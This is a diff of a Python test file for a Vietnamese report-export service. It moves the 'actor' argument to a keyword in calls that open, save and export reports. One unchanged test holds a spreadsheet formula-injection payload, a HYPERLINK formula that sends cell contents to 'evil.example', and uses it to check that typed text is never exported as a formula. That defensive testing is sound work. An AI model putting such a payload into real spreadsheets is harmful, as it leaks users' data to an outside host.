@@ -37,20 +37,24 @@ def figures(world: Any) -> Any:
 
 
 def _export(report: ConsolidatedReport, actor: Any, kind: str) -> bytes:
-    row: ReportFile = services.export_report(actor, report, kind)
+    row: ReportFile = services.export_report(report, kind, actor=actor)
     return (storage.files_dir() / row.file_path).read_bytes()
 
 
 def _commune_report(world: Any) -> ConsolidatedReport:
     owner = world.demo.user("owner")
-    report = services.open_report(owner, world.demo.commune, world.form, "2026S1")
+    report = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
     return services.save_report(
-        owner, report, sections={"signer": "Trần Thị Hoa"}, number="15/BC-UBND", revision=report.revision
+        report,
+        actor=owner,
+        sections={"signer": "Trần Thị Hoa"},
+        number="15/BC-UBND",
+        revision=report.revision,
     )
 
 
 def _province_report(world: Any) -> ConsolidatedReport:
-    return services.open_report(world.demo.user("province"), world.demo.province, world.form, "2026S1")
+    return services.open_report(world.demo.province, world.form, "2026S1", actor=world.demo.user("province"))
 
 
 def _texts(document: Any) -> list[str]:
@@ -275,7 +279,7 @@ def test_the_province_workbook_has_totals_with_contributors_and_a_sheet_of_commu
 def test_an_annual_workbook_carries_the_halves_of_the_year(figures: Any) -> None:
     world = figures
     owner = world.demo.user("owner")
-    report = services.open_report(owner, world.demo.commune, world.annual, "2026")
+    report = services.open_report(world.demo.commune, world.annual, "2026", actor=owner)
     workbook = openpyxl.load_workbook(io.BytesIO(_export(report, owner, "xlsx")))
     assert workbook.sheetnames == ["Năm 2026", "6 tháng đầu năm 2026", "6 tháng cuối năm 2026"]
     half = workbook["6 tháng đầu năm 2026"]
@@ -284,10 +288,10 @@ def test_an_annual_workbook_carries_the_halves_of_the_year(figures: Any) -> None
 
 def test_pasted_control_characters_never_break_an_export(world: Any) -> None:
     owner = world.demo.user("owner")
-    report = services.open_report(owner, world.demo.commune, world.form, "2026S1")
+    report = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
     report = services.save_report(
-        owner,
         report,
+        actor=owner,
         sections={"proposals": "Đề nghị\x0b hỗ trợ\x00\r\n- thêm"},
         number="7\x0c/BC-UBND",
         revision=1,
@@ -317,8 +321,8 @@ def test_text_typed_by_users_never_becomes_a_formula(figures: Any) -> None:
     world = figures
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
     indicator = indicator_services.create_indicator(
-        world.demo.user("province"),
         world.demo.province,
+        actor=world.demo.user("province"),
         code="HP-F1",
         name_vi=evil,
         kind="count",
@@ -358,6 +362,6 @@ def test_the_province_annex_assesses_only_percentages_against_the_strategy(world
     assert (v04[5], v04[9]) == ("92,5%", "Đạt")
     assert any("không đánh giá đạt, chưa đạt ở cấp tỉnh" in p.text for p in document.paragraphs)
     owner = world.demo.user("owner")
-    own = services.open_report(owner, world.demo.commune, world.form, "2026S1")
+    own = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
     commune = docx.Document(io.BytesIO(_export(own, owner, "docx")))
     assert _annex_row(commune.tables[2], "BD-C01")[9] == "Đạt"  # a commune's own count is assessed
